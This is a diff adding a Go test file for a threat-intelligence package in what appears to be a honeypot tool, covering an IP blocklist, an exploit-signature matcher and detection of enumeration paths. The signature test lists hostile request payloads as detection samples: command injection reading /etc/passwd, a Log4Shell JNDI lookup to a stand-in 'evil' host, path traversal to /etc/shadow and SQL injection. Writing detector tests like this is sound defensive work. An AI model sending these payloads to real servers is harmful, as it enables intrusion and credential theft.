@@ -1,0 +1,129 @@
+package intel
+
+import (
+	"testing"
+
+	"shadowmeter/internal/wire"
+)
+
+func TestBlocklistAddr(t *testing.T) {
+	b := NewBlocklist()
+	a := wire.MustParseAddr("203.0.113.66")
+	if b.IsListed(a) {
+		t.Error("empty blocklist should not list anything")
+	}
+	b.ListAddr(a, ReasonXBL)
+	reason, ok := b.Contains(a)
+	if !ok || reason != ReasonXBL {
+		t.Errorf("Contains = %q, %v", reason, ok)
+	}
+	if b.IsListed(wire.MustParseAddr("203.0.113.67")) {
+		t.Error("neighbor should not be listed by exact-address entry")
+	}
+}
+
+func TestBlocklistPrefix(t *testing.T) {
+	b := NewBlocklist()
+	b.ListPrefix24(wire.MustParseAddr("198.51.100.200"), ReasonDROP)
+	if !b.IsListed(wire.MustParseAddr("198.51.100.1")) {
+		t.Error("/24 listing should cover whole prefix")
+	}
+	if b.IsListed(wire.MustParseAddr("198.51.101.1")) {
+		t.Error("adjacent /24 should not be listed")
+	}
+	if b.Len() != 1 {
+		t.Errorf("Len = %d", b.Len())
+	}
+}
+
+func TestSignatureDBDetectsExploits(t *testing.T) {
+	db := DefaultSignatureDB()
+	if db.Len() != len(DefaultSignatureRules) {
+		t.Fatalf("Len = %d", db.Len())
+	}
+	malicious := []string{
+		"GET /index.php?cmd=cat+/etc/passwd HTTP/1.1",
+		"GET /x HTTP/1.1\r\nUser-Agent: ${jndi:ldap://evil/a}",
+		"GET /../../etc/shadow HTTP/1.1",
+		"GET /page?q=1 UNION SELECT password FROM users",
+		"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+	}
+	for _, p := range malicious {
+		if !db.Matches(p) {
+			t.Errorf("exploit payload not detected: %q", p)
+		}
+	}
+}
+
+func TestSignatureDBBenignClean(t *testing.T) {
+	db := DefaultSignatureDB()
+	benign := []string{
+		"GET / HTTP/1.1\r\nHost: honeysite",
+		"GET /robots.txt HTTP/1.1",
+		"GET /admin/ HTTP/1.1",
+		"GET /uploads/ HTTP/1.1",
+	}
+	for _, p := range benign {
+		if got := db.Match(p); len(got) != 0 {
+			t.Errorf("benign payload flagged by %v: %q", got[0].ID, p)
+		}
+	}
+}
+
+func TestSignatureMatchDetails(t *testing.T) {
+	db := DefaultSignatureDB()
+	got := db.Match("GET /?cmd=id HTTP/1.1")
+	if len(got) != 1 || got[0].ID != "EDB-0001" || got[0].Severity != "critical" {
+		t.Errorf("Match = %+v", got)
+	}
+}
+
+func TestNewSignatureDBBadPattern(t *testing.T) {
+	if _, err := NewSignatureDB([]SignatureRule{{ID: "x", Pattern: "("}}); err == nil {
+		t.Error("bad regexp should fail")
+	}
+}
+
+func TestIsEnumerationPath(t *testing.T) {
+	enum := []string{"/admin/", "/wp-login.php", "/.git/config", "/backup/", "/uploads/", "/db/", "/some/dir/", "/config.php", "/.env"}
+	for _, p := range enum {
+		if !IsEnumerationPath(p) {
+			t.Errorf("IsEnumerationPath(%q) = false", p)
+		}
+	}
+	normal := []string{"/index.html", "/products/item1.html", "/about"}
+	for _, p := range normal {
+		if IsEnumerationPath(p) {
+			t.Errorf("IsEnumerationPath(%q) = true", p)
+		}
+	}
+	// Root "/" is in the dictionary.
+	if !IsEnumerationPath("/") {
+		t.Error("root should count as enumeration start")
+	}
+	// Query strings are stripped before classification.
+	if !IsEnumerationPath("/admin/?redirect=1") {
+		t.Error("query string should be ignored")
+	}
+}
+
+func BenchmarkSignatureMatch(b *testing.B) {
+	db := DefaultSignatureDB()
+	payload := "GET /uploads/ HTTP/1.1\r\nHost: honeysite\r\nUser-Agent: scanner"
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		db.Matches(payload)
+	}
+}
+
+func BenchmarkBlocklistLookup(b *testing.B) {
+	bl := NewBlocklist()
+	for i := 0; i < 10000; i++ {
+		bl.ListAddr(wire.AddrFrom(byte(i>>8), byte(i), 1, 1), ReasonSBL)
+	}
+	a := wire.MustParseAddr("10.20.1.1")
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		bl.IsListed(a)
+	}
+}
